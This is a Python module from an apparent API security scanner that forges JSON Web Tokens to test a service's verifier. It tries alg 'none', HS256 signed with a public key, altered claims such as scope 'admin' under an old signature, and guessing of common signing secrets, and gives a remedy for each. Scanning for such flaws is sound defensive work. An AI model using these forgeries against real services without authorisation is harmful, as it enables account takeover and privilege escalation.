"""Tokens that an attacker forges without the signing key.

The attacker has one valid token and public keys. He tries a verifier's three classic mistakes: no signature, an
algorithm that the token chooses, and a signature that is not verified.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from functools import partial
from typing import Any

from securecore_scan.checks import Check, Severity
from securecore_scan.client import jws, signing_secrets, tokens
from securecore_scan.client.responses import is_refused, json_or_none, require_success, status_text
from securecore_scan.client.target import Target
from securecore_scan.client.tls import server_key
from securecore_scan.outcomes import NotApplicable, Outcome, Skipped, outcome_of


def without_signature(target: Target) -> Iterator[Outcome]:
    """Send the claims of a valid token with alg "none", in several spellings. Works if one token is accepted."""
    header, claims = working_jwt(target)
    forged = {alg: jws.unsigned(header, claims, alg=alg) for alg in ("none", "None", "NONE", "nOnE", "")}
    yield send_forged(target, {f'alg "{alg}"': token for alg, token in forged.items()})


def hmac_with_public_key(target: Target) -> Iterator[Outcome]:
    """Sign with HS256 and a public key as the secret. Works if the verifier lets the token choose the algorithm."""
    header, claims = working_jwt(target)
    keys = {"the key set's": _published_key(target), "the TLS certificate's": server_key(target.transport)}
    forged = {f"{name} public key": jws.with_hmac(header, claims, key=key) for name, key in keys.items() if key}
    if not forged and signing_secrets.signs_with_hmac(header.get("alg")):
        raise NotApplicable("the token is signed with a shared secret: there is no public key to sign with")
    if not forged:
        raise Skipped("no public key is known: neither a key set ([tokens] jwks) nor a TLS certificate")
    yield send_forged(target, forged)


def changed_claims(target: Target) -> Iterator[Outcome]:
    """Send changed claims with the signature of a valid token. Works if one token is accepted."""
    _, claims = working_jwt(target)
    pair = target.once(tokens.working_pair)
    changes: dict[str, dict[str, Any]] = {
        "a later exp": {"exp": int(time.time()) + 10 * 86_400},
        "another sub": {"sub": f"{claims.get('sub', '')}0"},
        "another scope": {"scope": "admin"},
    }
    forged = {name: jws.with_changed_claims(pair.access, **change) for name, change in changes.items()}
    yield send_forged(target, forged)


def guessable_secret(target: Target) -> Iterator[Outcome]:
    """Test the token's signature against common secrets, without a request. Works if one of them signed it."""
    header, _ = working_jwt(target)
    if not signing_secrets.signs_with_hmac(header.get("alg")):
        raise NotApplicable("the token is not signed with a shared secret")
    found = target.once(guessed_secret)
    seen = f"none of {len(signing_secrets.COMMON)} common secrets signs the token"
    yield outcome_of(
        found is not None, tokens.subject(target), f"the secret is {found!r}" if found is not None else seen
    )


def guessed_secret(target: Target) -> str | None:
    """Return the common secret that signs the tokens of the service, or None."""
    return signing_secrets.guessed(target.once(tokens.working_pair).access)


def working_jwt(target: Target) -> tuple[dict[str, Any], dict[str, Any]]:
    """Return header and claims of a token that the service accepts. Raises ``Skipped`` if the token is not a JWT."""
    found = jws.decode(target.once(tokens.working_pair).access)
    if found is None:
        raise NotApplicable("the token is not a JWT")
    return found


def send_forged(target: Target, forged: dict[str, str]) -> Outcome:
    """Send each forged token to the protected route. The attack works if one token is accepted."""
    answers = {}
    for name, token in forged.items():
        target.redactor.add(token, "forged token")
        answers[name] = tokens.use(target, token)
    worked = [name for name, answer in answers.items() if not is_refused(answer)]
    seen = ", ".join(f"{name}: {status_text(answer)}" for name, answer in answers.items())
    return outcome_of(bool(worked), tokens.subject(target), seen)


def _published_key(target: Target) -> bytes | None:
    path = target.plan.tokens.jwks
    if path is None:
        return None
    keys = (json_or_none(require_success(target.get(path))) or {}).get("keys", [])
    return jws.public_pem(keys[0]) if keys else None


_check = partial(
    Check,
    category="token-replay",
    severity=Severity.CRITICAL,
    owasp="API2:2023",
    cwe=(347,),
    securecore="AccessTokenAuthentication",
)
CHECKS = (
    _check(
        "SC-FORGE-1",
        "Token without a signature",
        asvs=("9.1.1", "9.1.2"),
        risk="An attacker writes his own tokens.",
        remedy="Verify the signature of every token, with a list of algorithms that the server chose.",
        run=without_signature,
    ),
    _check(
        "SC-FORGE-2",
        "Token signed with a public key",
        asvs=("9.1.2",),
        risk="An attacker who can read a public key writes his own tokens.",
        remedy="Never let the token choose the algorithm. Use each key with one family of algorithms only.",
        run=hmac_with_public_key,
    ),
    _check(
        "SC-FORGE-3",
        "Changed claims with an old signature",
        asvs=("9.1.1",),
        risk="An attacker who has one token can change its user, scope and expiry.",
        remedy="Verify the signature in the application too: a request may reach it past the gateway that verifies.",
        run=changed_claims,
    ),
    _check(
        "SC-FORGE-7",
        "Guessable signing secret",
        cwe=(1391, 347),
        asvs=("11.2.3", "13.3.1"),
        risk="An attacker with one token finds the secret offline, and writes his own tokens.",
        remedy="Sign with a private key, or with 32 random bytes that no file of the repository contains.",
        securecore="manage.py securecore_keys rotate: ES256 keys in the database",
        run=guessable_secret,
    ),
)
